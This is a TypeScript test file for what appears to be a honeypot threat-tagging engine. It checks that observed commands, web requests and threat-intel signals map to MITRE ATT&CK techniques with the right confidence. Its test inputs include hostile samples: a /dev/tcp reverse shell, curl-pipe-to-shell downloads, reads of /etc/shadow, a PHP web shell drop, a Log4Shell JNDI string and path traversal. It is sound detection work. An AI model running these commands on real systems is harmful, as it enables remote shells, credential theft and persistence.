// The engine on the upstream rules: tag ids (golden value), confidence (floor, intel multipliers,
// operator clipping downward only), per-kind ownership of pattern rules and lifters, evidence,
// and behaviour sentences for every rule family. ATT&CK resolution of everything emitted.
import { describe, expect, it } from 'vitest';
import { MAX_EVIDENCE_STRING, MIN_CONFIDENCE } from './engine.js';
import { ABUSEIPDB_CATEGORY_TECHNIQUES, GREYNOISE_TAG_TECHNIQUES, THREATFOX_THREAT_TECHNIQUES } from './lifters/intel.js';
import type { RuleState, TagCandidate } from './rule.js';
import { upstreamEngine } from './test-kit.fixture.js';
import { TTP_TAG_NAMESPACE, URL_NAMESPACE, tagUuid, uuidv5 } from './uuid.js';

const { engine, attack } = upstreamEngine();

const tagsOf = (sourceKind: string, payload: Record<string, unknown>, options = {}): TagCandidate[] =>
  engine.tag({ sourceKind, sourceId: 'src-1', payload }, options);
const rulesOf = (sourceKind: string, payload: Record<string, unknown>): string[] => [...new Set(tagsOf(sourceKind, payload).map((t) => t.ruleId))].sort();
const techniques = (sourceKind: string, payload: Record<string, unknown>): string[] =>
  tagsOf(sourceKind, payload).map((t) => `${t.ruleId}:${t.subTechniqueId ?? t.techniqueId}@${t.confidence.toFixed(3)}`).sort();

describe('tag ids are UUIDv5 over the locked six-field tuple', () => {
  it('derives the namespace from uuid5(URL, "decnet:ttp_tag:v1")', () => {
    expect(uuidv5(URL_NAMESPACE, 'decnet:ttp_tag:v1')).toBe(TTP_TAG_NAMESPACE);
    expect(TTP_TAG_NAMESPACE).toBe('1ca31f08-5522-5aae-8371-fe81f0e39de3');
  });

  it('reproduces upstream\'s golden value ("command","cmd_42","R0014",2,"T1083",None)', () => {
    expect(tagUuid({ sourceKind: 'command', sourceId: 'cmd_42', ruleId: 'R0014', ruleVersion: 2, techniqueId: 'T1083', subTechniqueId: null })).toBe(
      '9aa491e5-f03b-5d8f-9eb5-161becedcdd6',
    );
  });

  it('gives N rules × M techniques distinct ids, and the same ids on replay', () => {
    const payload = { command_text: 'find / -perm -4000 2>/dev/null; nmap -sV 10.0.0.0/24' };
    const first = tagsOf('command', payload);
    expect(first.map((t) => `${t.ruleId}:${t.subTechniqueId ?? t.techniqueId}`).sort()).toEqual([
      'R0015:T1083',
      'R0015:T1548.001',
      'R0016:T1083',
      'R0017:T1046',
      'R0017:T1595',
    ]);
    expect(new Set(first.map((t) => t.uuid)).size).toBe(5);
    expect(tagsOf('command', payload).map((t) => t.uuid)).toEqual(first.map((t) => t.uuid));
    expect(engine.tag({ sourceKind: 'command', sourceId: 'src-2', payload }).map((t) => t.uuid)).not.toContain(first[0]?.uuid);
  });
});

describe('confidence is computed as upstream', () => {
  it('drops tags under 0.3: AbuseIPDB score 30 with categories [18, 22] gives 0.7 × 0.3 = 0.21', () => {
    const result = engine.evaluate({ sourceKind: 'intel', sourceId: 'i', payload: { abuseipdb_score: 30, abuseipdb_categories: [18, 22] } });
    expect(result.kept).toEqual([]);
    expect(result.dropped.map((t) => [t.techniqueId, Number(t.confidence.toFixed(2))])).toEqual([['T1110', 0.21]]);
    expect(MIN_CONFIDENCE).toBe(0.3);
  });

  it('clips downward only, never fires a disabled rule, and lets an expired override lapse', () => {
    const payload = { command_text: 'cat /etc/shadow' };
    const now = new Date('2026-05-02T12:00:00Z');
    const clip = (max: number): Map<string, RuleState> => new Map([['R0014', { state: 'clipped', confidenceMax: max }]]);
    expect(tagsOf('command', payload, { states: clip(0.5), now })[0]?.confidence).toBe(0.5);
    expect(tagsOf('command', payload, { states: clip(0.99), now })[0]?.confidence).toBe(0.95);
    expect(tagsOf('command', payload, { states: clip(0.2), now })).toEqual([]);
    const disabled = new Map<string, RuleState>([['R0014', { state: 'disabled' }]]);
    expect(tagsOf('command', payload, { states: disabled, now })).toEqual([]);
    const lapsed = new Map<string, RuleState>([['R0014', { state: 'disabled', expiresAt: new Date('2026-05-02T11:59:59Z') }]]);
    expect(tagsOf('command', payload, { states: lapsed, now })).toHaveLength(1);
  });

  it('never lets R0058 (aggregate verdict) emit anything', () => {
    expect(engine.evaluate({ sourceKind: 'intel', sourceId: 'i', payload: { aggregate_verdict: 'malicious', verdict: 'malicious' } })).toEqual({
      kept: [],
      dropped: [],
      errors: [],
    });
  });
});

describe('pattern rules and lifters own rules by kind, as upstream', () => {
  it('never fires a lifter rule from text that looks like it', () => {
    expect(rulesOf('command', { command_text: 'redis-cli FLUSHALL', op_text: 'FLUSHALL' })).toEqual([]);
    expect(rulesOf('session', { command_text: 'cat /etc/shadow' })).toEqual([]);
  });

  it('runs a lifter only for kinds both the rule and the lifter handle', () => {
    expect(rulesOf('http_request', { request_path: '/.git/config' })).toEqual(['R0036']);
    expect(rulesOf('email', { request_path: '/.git/config' })).toEqual([]);
  });

  it('reads the default field per kind, or the field a rule names', () => {
    expect(rulesOf('http_request', { raw_url: '/?q=${jndi:ldap://203.0.113.9/a}' })).toEqual(['R0008']);
    expect(rulesOf('http_request', { raw_url: '/', user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' })).toEqual(['R0007']);
    expect(rulesOf('http_request', { raw_url: '/static/../../../../etc/passwd' })).toEqual(['R0009']);
    expect(rulesOf('http_request', { raw_url: '/index.html', user_agent: 'Mozilla/5.0' })).toEqual([]);
  });
});

describe('shell commands map to the techniques their rules name', () => {
  it.each([
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['R0010']],
    ['python3 -c "import pty;pty.spawn(\'/bin/bash\')"', ['R0011']],
    ['wget http://198.51.100.7/x.sh', ['R0012']],
    ['curl -fsSL http://198.51.100.7/i | sh', ['R0012']],
    ['cat /etc/passwd', ['R0013']],
    ['sudo cat /etc/shadow', ['R0014']],
    ['find / -perm -4000 2>/dev/null', ['R0015', 'R0016']],
    ['nmap -sV 10.0.0.0/24', ['R0017']],
    ['uname -a', ['R0018']],
    ['whoami', ['R0019']],
    ['ip addr', ['R0020']],
    ['netstat -tulpn', ['R0021']],
    ['ldapsearch -x -H ldap://dc01', ['R0022']],
    ['enum4linux -a 10.0.0.5', ['R0023']],
    ['useradd -m backdoor', ['R0024']],
    ['crontab -e', ['R0025']],
    ['redis-cli config set dir /root/.ssh', ['R0026']],
    ["echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php", ['R0027']],
    ['history -c', ['R0028']],
    ['sudo -l', ['R0029']],
    ['ls -la', []],
    ['cd /tmp', []],
    ['identify photo.png', []],
    ['find . -name "*.log"', []],
    ['curl', []],
    ['cat notes.txt', []],
  ])('%s → %j', (command, expected) => {
    expect(rulesOf('command', { command_text: command })).toEqual(expected);
  });

  it('adds who ran the command (uid, user, src, pwd) to the evidence', () => {
    const [tag] = tagsOf('command', { command_text: 'cat /etc/shadow', uid: '0', user: 'root', src: '198.51.100.7', pwd: '/root', ignored: 'x' });
    expect(tag?.evidence).toEqual({ command_text: 'cat /etc/shadow', uid: '0', user: 'root', src: '198.51.100.7', pwd: '/root' });
  });

  it('bounds attacker-controlled evidence', () => {
    const long = `cat /etc/shadow ${'A'.repeat(5000)}`;
    const [tag] = tagsOf('command', { command_text: long });
    expect((tag?.evidence.command_text as string).length).toBe(MAX_EVIDENCE_STRING);
  });

  it('writes the release of the ATT&CK data on every tag, and the MITRE page of the most specific technique', () => {
    const [tag] = tagsOf('command', { command_text: 'cat /etc/shadow' });
    expect(tag?.attackRelease).toBe('v15.1');
    expect(tag?.mitreUrl).toBe('https://attack.mitre.org/techniques/T1003/008/');
  });
});

describe('intel lifters map provider signals and scale confidence', () => {
  it.each([
    [{ abuseipdb_score: 95, abuseipdb_categories: [18, 22] }, ['R0054:T1110@0.665']],
    [{ abuseipdb_score: 100, abuseipdb_categories: [14] }, ['R0054:T1046@0.700', 'R0054:T1595@0.700']],
    [{ abuseipdb_score: 100, abuseipdb_categories: [11] }, ['R0054:T1496@0.600', 'R0054:T1566@0.700']],
    [{ abuseipdb_score: 79, abuseipdb_categories: [11] }, ['R0054:T1496@0.474']],
    [{ abuseipdb_score: 100, abuseipdb_categories: [9, 20, '15'] }, ['R0054:T1078@0.600', 'R0054:T1090@0.600', 'R0054:T1190@0.700']],
    [{ abuseipdb_score: 100, abuseipdb_categories: [4, 10, 12] }, []],
    [{ abuseipdb_categories: [18] }, []],
    [{ greynoise_classification: 'scanner' }, ['R0055:T1595.002@0.700']],
    [{ greynoise_classification: 'malicious', greynoise_tags: ['Tor Exit Node'] }, ['R0055:T1090@0.700']],
    [{ greynoise_classification: 'malicious', greynoise_tags: ['SSH Bruteforcer'] }, ['R0055:T1110@0.700']],
    [{ greynoise_classification: 'malicious', greynoise_tags: ['cobalt_strike'] }, ['R0055:T1071@0.700', 'R0055:T1588@0.700']],
    [{ greynoise_classification: 'malicious', greynoise_tags: [] }, ['R0055:T1071@0.350']],
    [{ greynoise_classification: 'benign', greynoise_tags: ['Web Crawler'] }, []],
    [{ feodo_listed: true, feodo_malware_family: 'Emotet' }, ['R0056:T1071.001@0.850', 'R0056:T1588.001@0.850']],
    [{ feodo_listed: false }, []],
    [{ threatfox_threat_types: ['payload_delivery'] }, ['R0057:T1105@0.750', 'R0057:T1588.001@0.800']],
    [{ threatfox_threat_types: ['cc_skimming'] }, ['R0057:T1056@0.700']],
    [{ threatfox_threat_types: ['payload'] }, ['R0057:T1588.001@0.800']],
    [{ ioc_type: 'botnet_cc' }, ['R0057:T1071@0.800', 'R0057:T1588.001@0.800']],
    [{ ioc_type: 'ip:port' }, []],
    [{}, []],
  ])('%j → %j', (payload, expected) => {
    expect(techniques('intel', payload)).toEqual(expected);
  });
});

describe('credential, identity, behavioural, e-mail, canary and IPv6 lifters use their YAML thresholds', () => {
  it.each([
    ['auth_attempt', { fail_count: 5, service: 'ssh' }, ['R0001']],
    ['auth_attempt', { fail_count: 4, service: 'ssh' }, []],
    ['auth_attempt', { username: 'root', password_count: 5 }, ['R0002']],
    ['auth_attempt', { username: 'root', password: 'root' }, ['R0006']],
    ['auth_attempt', { username: 'pi', secret_printable: 'raspberry' }, ['R0006']],
    ['auth_attempt', { username: 'root', password: '' }, ['R0006']],
    ['auth_attempt', { username: 'root', password: 'toor' }, []],
    ['auth_attempt', { username: 'admin', outcome: 'success', prior_brute: true }, ['R0005']],
    ['auth_attempt', { username: 'admin', outcome: 'success' }, []],
    ['credential', { credential_hash: 'ab12', reuse_count: 2 }, ['R0004']],
    ['identity', { shared_password_hash: 'ab12', account_count: 3 }, ['R0003']],
    ['identity', { shared_password_hash: 'ab12', account_count: 2 }, []],
    ['session', { beacon_interval_s: 60, beacon_jitter_pct: 0.2 }, []],
    ['session', { commands: [{ command_text: 'DROP DATABASE shop;' }] }, ['R0032']],
    ['session', { body_text: 'pay 1 btc to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa' }, ['R0033']],
    ['session', { body_text: 'pay 1 btc soon' }, []],
    ['session', { request_count: 49, bytes_out: 10 }, []],
    ['session', { bytes_read: 6_000_000 }, ['R0035']],
    ['session', { signals: ['bind:/var/run/docker.sock:/var/run/docker.sock'] }, ['R0038']],
    ['session', { signals: ['bind:/etcetera:/x'] }, []],
    ['session', { tftp_filename: 'core-sw1-confg' }, ['R0040']],
    ['email', { rcpt_count: 10, from_domain: 'a.example', mail_from_domain: 'b.example' }, ['R0041', 'R0045']],
    ['email', { auth_results: 'mx; spf=fail smtp.mailfrom=x; dkim=pass' }, ['R0045']],
    ['email', { spf_pass: false, dkim_signed: false }, []],
    ['email', { attachment_extensions: ['iso'] }, ['R0046']],
    ['email', { url_domains: ['xn--pple-43d.com'] }, ['R0044']],
    ['canary_fingerprint', { navigator_webdriver: true }, ['R0049']],
    ['canary_fingerprint', { matched_tool: 'Puppeteer' }, ['R0050']],
    ['canary_fingerprint', { webrtc_local_ip: '10.0.0.5', source_country: 'DE', leak_country: 'US' }, ['R0051']],
    ['canary_fingerprint', { webrtc_local_ip: '10.0.0.5', source_country: 'DE', leak_country: 'DE' }, []],
    ['canary_fingerprint', { browser_timezones: ['Europe/Berlin', 'Asia/Tokyo', 'America/Lima'] }, ['R0052']],
    ['canary_fingerprint', { browser_language: 'ru-RU', source_country: 'US' }, ['R0052']],
    ['canary_fingerprint', { user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', navigator_platform: 'Linux x86_64' }, ['R0053']],
    ['canary_fingerprint', { user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', webgl_renderer: 'Google SwiftShader' }, ['R0053']],
    ['canary_fingerprint', { user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)', navigator_platform: 'MacIntel' }, []],
    ['ipv6_leak', { addr: 'fe80::a00:27ff:fe4e:66a1', iid_kind: 'eui64' }, ['R0059']],
    ['ipv6_leak', { addr: '2001:db8::1' }, []],
  ])('%s %j → %j', (kind, payload, expected) => {
    expect(rulesOf(kind, payload)).toEqual(expected);
  });

  it('anchors password spraying on the identity only (upstream nulls the attacker)', () => {
    expect(tagsOf('identity', { shared_password_hash: 'ab12', account_count: 3 }).every((t) => t.identityOnly)).toBe(true);
    expect(tagsOf('command', { command_text: 'whoami' }).every((t) => !t.identityOnly)).toBe(true);
  });

  it('hands the credential window the thresholds from R0001 and R0002', () => {
    expect(engine.credentialWindow()).toEqual({ failThreshold: 5, pwThreshold: 5, windowMs: 300_000 });
  });
});

describe('every technique and tactic a rule or lifter can emit resolves in the ATT&CK data', () => {
  it('resolves each emit of each rule, with a name and a MITRE URL', () => {
    for (const rule of engine.rules) {
      for (const e of rule.emits) {
        expect(attack.tactic(e.tactic), `${rule.ruleId} ${e.tactic}`).toBeDefined();
        expect(attack.technique(e.techniqueId)?.name, `${rule.ruleId} ${e.techniqueId}`).toBeTruthy();
        if (e.subTechniqueId) expect(attack.techniqueName(e.subTechniqueId), rule.ruleId).toContain(': ');
      }
    }
  });

  it('resolves every technique of the intel mapping tables, each owned by an emit of its rule', () => {
    const tables: [string, Readonly<Record<string | number, readonly string[]>>][] = [
      ['R0054', ABUSEIPDB_CATEGORY_TECHNIQUES],
      ['R0055', GREYNOISE_TAG_TECHNIQUES],
      ['R0057', THREATFOX_THREAT_TECHNIQUES],
    ];
    for (const [ruleId, table] of tables) {
      const emitted = new Set(engine.rule(ruleId)?.emits.map((e) => e.techniqueId));
      for (const list of Object.values(table)) {
        for (const t of list) {
          expect(attack.technique(t), t).toBeDefined();
          expect(emitted.has(t), `${ruleId} can emit ${t}`).toBe(true);
        }
      }
    }
  });
});
